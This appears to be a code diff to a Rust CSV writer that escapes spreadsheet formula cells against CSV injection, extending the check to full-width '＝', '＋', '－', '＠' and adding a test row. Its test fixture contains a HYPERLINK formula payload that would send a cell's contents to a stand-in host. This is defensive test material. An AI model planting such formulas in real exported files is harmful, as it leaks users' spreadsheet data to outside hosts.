@@ -1,12 +1,13 @@
 //! Every CSV the program writes goes through here: a cell that a spreadsheet would take as a
-//! formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) is written with a
-//! leading `'`, as OWASP advises against CSV injection, so that it opens as the text it is. An
-//! asset number or a customer name from a platform is data, never a formula on a user's PC.
+//! formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return, or the full-width
+//! `＝`, `＋`, `－`, `＠`) is written with a leading `'`, as OWASP advises against CSV
+//! injection, so that it opens as the text it is. An asset number or a customer name from a platform is data, never a formula on a user's PC.
 
 use std::borrow::Cow;
 
-/// The characters that make a spreadsheet read a cell as a formula.
-const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+/// The characters that make a spreadsheet read a cell as a formula, and their full-width
+/// forms, which a spreadsheet with a Chinese or Japanese input method turns into them.
+const FORMULA_LEADS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
 
 /// The cell as written: as it is, or with a leading `'` when it would be a formula.
 pub fn neutral(cell: &str) -> Cow<'_, str> {
@@ -52,12 +53,13 @@ mod tests {
                 vec!["+1", "-2"],
                 vec!["\tx", "\rx"],
                 vec!["8100000001", "授权测试企业"],
+                vec!["＝1+1", "＠SUM(A1)"],
             ],
             false,
         );
         assert_eq!(
             text,
-            "asset,name\n\"'=HYPERLINK(\"\"http://x?\"\"&B2,\"\"8100\"\")\",'@SUM(A1)\n'+1,'-2\n'\tx,\"'\rx\"\n8100000001,授权测试企业\n"
+            "asset,name\n\"'=HYPERLINK(\"\"http://x?\"\"&B2,\"\"8100\"\")\",'@SUM(A1)\n'+1,'-2\n'\tx,\"'\rx\"\n8100000001,授权测试企业\n'＝1+1,'＠SUM(A1)\n"
         );
         assert!(csv_text(&["a"], [vec!["b"]], true).starts_with('\u{feff}'));
     }
